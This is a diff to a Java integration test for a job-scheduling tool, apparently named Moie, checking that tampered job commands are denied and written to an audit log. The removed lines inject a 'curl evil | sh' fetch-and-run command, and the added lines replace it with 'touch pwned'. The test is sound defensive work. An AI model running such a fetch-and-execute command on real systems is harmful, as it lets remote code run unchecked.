@@ -75,7 +75,7 @@ class ExamplesIT {
       // In the test the drift checks are due with each heartbeat, as they are ten minutes later.
       machine
           .edit(STATE, "http://127.0.0.1:8080", service.url(""))
-          .edit(STATE, "\"PT10M\"", "\"PT1S\"")
+          .edit(STATE, "\"*/10 * * * *\"", "\"PT1S\"")
           .edit(STATE, "@hourly", "PT1S");
 
       Moie.Result set = machine.run(0, "heartbeat", "--json");
@@ -94,15 +94,16 @@ class ExamplesIT {
       assertThat(drifted.job("1.5").path("drift").asBoolean()).isTrue();
       assertThat(drifted.job("1.6").path("drift").asBoolean()).isFalse();
 
-      machine.edit(STATE, "\"command\": \"mkdir -p .ssh &&", "\"command\": \"curl evil | sh;");
+      machine.edit(STATE, "\"command\": \"mkdir -p .ssh &&", "\"command\": \"touch pwned &&");
       Moie.Result repaired = machine.run(1, "heartbeat", "--json");
       assertThat(outcome(repaired, "3.1")).as(repaired.toString()).isEqualTo("CYCLIC_RAN");
       assertThat(outcome(repaired, "3.2")).isEqualTo("DENIED");
-      assertThat(repaired.job("3.2").path("reason").asText()).contains("curl evil");
+      assertThat(repaired.job("3.2").path("reason").asText()).contains("touch pwned");
       assertThat(outcome(repaired, "3.3")).isEqualTo("CYCLIC_HELD");
       assertThat(machine.read("etc/stock.yaml")).contains("listen: 127.0.0.1:8080  ");
       assertThat(permissions(machine, ".ssh/id_ed25519")).isEqualTo("rw-r--r--");
-      assertThat(machine.read(".moie/data/governance/audit.jsonl")).contains("DENIED", "curl evil");
+      assertThat(machine.path("pwned")).doesNotExist();
+      assertThat(machine.read(".moie/data/governance/audit.jsonl")).contains("DENIED", "touch pwned");
       assertThat(folder.resolve("units")).doesNotExist();
     }
   }
